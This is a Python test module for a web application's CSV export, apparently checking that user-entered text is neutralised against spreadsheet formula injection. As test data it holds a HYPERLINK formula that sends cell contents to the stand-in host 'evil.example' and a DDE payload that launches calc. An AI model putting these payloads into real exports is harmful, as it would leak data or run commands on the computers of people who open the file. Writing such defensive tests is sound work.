"""What people typed is text in a spreadsheet, never a formula."""

import csv
import io
from typing import Any

import pytest
from hypothesis import given, strategies as st

from allotment.kernel.web.tables import csv_response, safe_cell
from tests.house.kept import in_world, people, world

__all__ = ["in_world", "people", "world"]

DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
FORMULA = '=HYPERLINK("http://evil.example?"&A1,"Click")'


def read(*rows: tuple[Any, ...]) -> list[list[str]]:
    response = csv_response("entries", ["Title", "+Who", "£"], rows)
    text = b"".join(response.streaming_content).decode("utf-8-sig")  # type: ignore[arg-type]
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize(
    "text", [FORMULA, "+44 1632", "-1+cmd|'/C calc'!A0", "@SUM(A1)", "\t=1", "\r=1"]
)
def test_a_formula_is_shown_as_it_was_typed(text: str) -> None:
    assert safe_cell(text) == "'" + text


@given(st.text() | st.text().map(lambda t: "=" + t) | st.integers() | st.none())
def test_no_cell_begins_as_a_formula_does_and_none_breaks_its_row(value: Any) -> None:
    rows = read((value, "next", 1), ("last", "", ""))

    assert [len(row) for row in rows] == [3, 3, 3]
    first = rows[1][0]
    assert "\0" not in first
    assert isinstance(value, int) or not first.startswith(DANGEROUS)


def test_numbers_stay_numbers_and_headings_are_cells_too() -> None:
    assert read((-5, 12.5, None)) == [["Title", "'+Who", "£"], ["-5", "12.5", ""]]


def test_an_entry_s_title_is_no_formula_in_the_list_that_is_downloaded(
    world: Any, clients: Any
) -> None:
    from allotment.fund.models import Award, Entry

    entry = Award.objects.get().entry
    Entry.objects.filter(pk=entry.pk).update(title=FORMULA)

    answer = clients("manager").get(f"/manage/{entry.call.key}/entries/?format=csv")

    rows = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode("utf-8-sig"))))
    assert rows[1][1] == "'" + FORMULA
    assert answer["Content-Disposition"].startswith("attachment")
